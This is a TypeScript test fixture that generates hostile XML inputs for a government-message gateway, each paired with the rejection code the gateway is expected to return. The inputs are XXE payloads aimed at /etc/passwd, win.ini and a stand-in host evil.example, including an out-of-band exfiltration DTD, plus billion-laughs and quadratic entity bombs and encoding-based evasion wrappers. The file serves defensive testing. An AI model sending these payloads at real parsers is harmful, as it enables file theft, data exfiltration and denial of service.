import type { ErrorCode } from '../../../gateway/errors.js';
import { hundAnmeldung } from '../../support/xzsa-fixtures.js';
import { expectCodes, xmlPost, type HostileEntry } from './types.js';

/** The valid message the DTD attacks are wrapped around; its prolog is replaced. */
const BODY = hundAnmeldung().replace(/^<\?xml[^>]*\?>\s*/, '');
const ROOT = 'xzsa:hund.anmeldung.0101';

/** How the DOCTYPE reaches the gateway: behind other prolog parts, or in another encoding. */
const WRAPPERS: Record<string, (doctype: string) => Buffer> = {
  plain: (d) => Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>\n${d}\n${BODY}`),
  'no-xml-decl': (d) => Buffer.from(`${d}\n${BODY}`),
  'behind-comment': (d) => Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>\n<!-- harmless <!DOCTYPE in a comment -->\n${d}\n${BODY}`),
  'behind-pi': (d) => Buffer.from(`<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?>\n<!--a-->${d}${BODY}`),
  'utf8-bom': (d) => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>${d}${BODY}`)]),
  'utf16le-bom': (d) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`<?xml version="1.0" encoding="UTF-16"?>\n${d}\n${BODY}`, 'utf16le')]),
  'utf16be-bom': (d) => Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(`<?xml version="1.0" encoding="UTF-16"?>\n${d}\n${BODY}`, 'utf16le').swap16()]),
  'utf16le-no-bom': (d) => Buffer.from(`<?xml version="1.0" encoding="UTF-16"?>\n${d}\n${BODY}`, 'utf16le'),
};

const TARGETS = ['file:///etc/passwd', 'http://127.0.0.1:9/steal', 'https://evil.example/x.dtd', 'file:///c:/windows/win.ini', 'expect://id', 'php://filter/resource=/etc/hosts', 'ftp://evil.example/x', '\\\\evil\\share\\x.dtd'];

/** XXE forms: each names something outside the document. */
const XXE: Record<string, (target: string) => string> = {
  'system-entity': (t) => `<!DOCTYPE ${ROOT} [<!ENTITY xxe SYSTEM "${t}">]>`,
  'public-entity': (t) => `<!DOCTYPE ${ROOT} [<!ENTITY xxe PUBLIC "-//EVIL//X" "${t}">]>`,
  'parameter-entity': (t) => `<!DOCTYPE ${ROOT} [<!ENTITY % ext SYSTEM "${t}"> %ext;]>`,
  'parameter-entity-public': (t) => `<!DOCTYPE ${ROOT} [<!ENTITY % ext PUBLIC "-//EVIL//X" "${t}"> %ext;]>`,
  'external-dtd-system': (t) => `<!DOCTYPE ${ROOT} SYSTEM "${t}">`,
  'external-dtd-public': (t) => `<!DOCTYPE ${ROOT} PUBLIC "-//EVIL//DTD X//EN" "${t}">`,
  'external-dtd-and-subset': (t) => `<!DOCTYPE ${ROOT} SYSTEM "${t}" [<!ELEMENT x ANY>]>`,
  'oob-exfiltration': (t) => `<!DOCTYPE ${ROOT} [<!ENTITY % file SYSTEM "file:///etc/hostname"><!ENTITY % dtd SYSTEM "${t}"> %dtd;]>`,
  'entity-after-element-decls': (t) => `<!DOCTYPE ${ROOT} [\n  <!ELEMENT a ANY>\n  <!ATTLIST a b CDATA #IMPLIED>\n  <!ENTITY\txxe\n SYSTEM\n"${t}">\n]>`,
};

/** Internal-entity bombs: nothing external, but expansion would explode. */
function laughs(levels: number, width: number): string {
  const decls = [`<!ENTITY l0 "lol">`];
  for (let i = 1; i <= levels; i++) decls.push(`<!ENTITY l${i} "${`&l${i - 1};`.repeat(width)}">`);
  return `<!DOCTYPE ${ROOT} [${decls.join('')}]>`;
}
const BOMBS: Record<string, string> = {
  'billion-laughs-10x10': laughs(10, 10),
  'billion-laughs-5x50': laughs(5, 50),
  'billion-laughs-30x2': laughs(30, 2),
  'quadratic-blowup-100k': `<!DOCTYPE ${ROOT} [<!ENTITY a "${'x'.repeat(100_000)}">]>`,
  'quadratic-blowup-1m': `<!DOCTYPE ${ROOT} [<!ENTITY a "${'y'.repeat(1_000_000)}">]>`,
  'recursive-entity': `<!DOCTYPE ${ROOT} [<!ENTITY a "&b;"><!ENTITY b "&a;">]>`,
  'parameter-entity-laughs': `<!DOCTYPE ${ROOT} [<!ENTITY % p0 "<!ENTITY x 'x'>"><!ENTITY % p1 "%p0;%p0;%p0;"> %p1;]>`,
  'entity-in-attribute-default': `<!DOCTYPE ${ROOT} [<!ENTITY e "${'&#x41;'.repeat(1000)}"><!ATTLIST ${ROOT} evil CDATA "&e;">]>`,
};

/** DOCTYPEs that declare nothing dangerous: still refused, XÖV never needs a DTD. */
const PLAIN: Record<string, string> = {
  'bare-doctype': `<!DOCTYPE ${ROOT}>`,
  'element-declarations': `<!DOCTYPE ${ROOT} [<!ELEMENT ${ROOT} ANY>]>`,
  'attlist-default-injects-attribute': `<!DOCTYPE ${ROOT} [<!ATTLIST ${ROOT} test CDATA "true">]>`,
  'notation-declaration': `<!DOCTYPE ${ROOT} [<!NOTATION png SYSTEM "image/png">]>`,
};

const entries: HostileEntry[] = [];
const add = (family: string, name: string, body: Buffer, ...codes: ErrorCode[]) => entries.push({ family, name, send: xmlPost(body), expect: expectCodes(...codes) });

let t = 0;
for (const [form, build] of Object.entries(XXE)) {
  for (const [wrap, wrapFn] of Object.entries(WRAPPERS)) add('xxe', `${form} / ${wrap}`, wrapFn(build(TARGETS[t++ % TARGETS.length]!)), 'GW_XML_EXTERNAL_ENTITY');
}
for (const [name, doctype] of Object.entries(BOMBS)) {
  add('entity-expansion', `${name} / plain`, WRAPPERS['plain']!(doctype), 'GW_XML_ENTITY_EXPANSION');
  add('entity-expansion', `${name} / utf16le-bom`, WRAPPERS['utf16le-bom']!(doctype), 'GW_XML_ENTITY_EXPANSION');
}
for (const [name, doctype] of Object.entries(PLAIN)) {
  add('doctype', `${name} / plain`, WRAPPERS['plain']!(doctype), 'GW_XML_DOCTYPE_FORBIDDEN');
  add('doctype', `${name} / utf16be-bom`, WRAPPERS['utf16be-bom']!(doctype), 'GW_XML_DOCTYPE_FORBIDDEN');
}
// A DOCTYPE the prolog scan does not recognise still never reaches validation.
add('doctype', 'lower-case doctype keyword', WRAPPERS['plain']!(`<!doctype ${ROOT} SYSTEM "file:///etc/passwd">`), 'GW_XML_MALFORMED');
add('doctype', 'doctype after the root element', Buffer.from(`${BODY}<!DOCTYPE x SYSTEM "file:///etc/passwd">`), 'GW_XML_MALFORMED');
add('doctype', 'doctype in latin1-declared document', Buffer.from(`<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE ${ROOT} SYSTEM "file:///etc/passwd">${BODY}`, 'latin1'), 'GW_XML_EXTERNAL_ENTITY');
add('doctype', 'entity reference without declaration', Buffer.from(hundAnmeldung().replace('Bello', '&xxe;')), 'GW_XML_MALFORMED');

export const DTD_ENTRIES: readonly HostileEntry[] = entries;
